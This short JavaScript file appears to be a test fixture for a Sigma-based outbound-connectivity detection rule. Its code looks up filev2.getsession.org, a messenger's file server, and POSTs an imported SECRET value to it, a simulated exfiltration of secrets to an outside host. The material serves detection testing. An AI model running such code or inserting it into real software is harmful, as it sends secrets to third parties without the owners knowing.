// act: looks up a host and leaves to a messenger's file server
// source: Sigma ac5a4e3f
// rule: outbound_connectivity
// asks: connect filev2.getsession.org:443
// says: filev2.getsession.org
// proof: arrived
// to: filev2.getsession.org
'use strict';
const { request, SECRET } = require('./incident');

module.exports = async () => {
    await require('dns').promises.lookup('filev2.getsession.org');
    const place = { host: 'filev2.getsession.org', path: '/file', method: 'POST' };
    await request('https', place, SECRET);
};
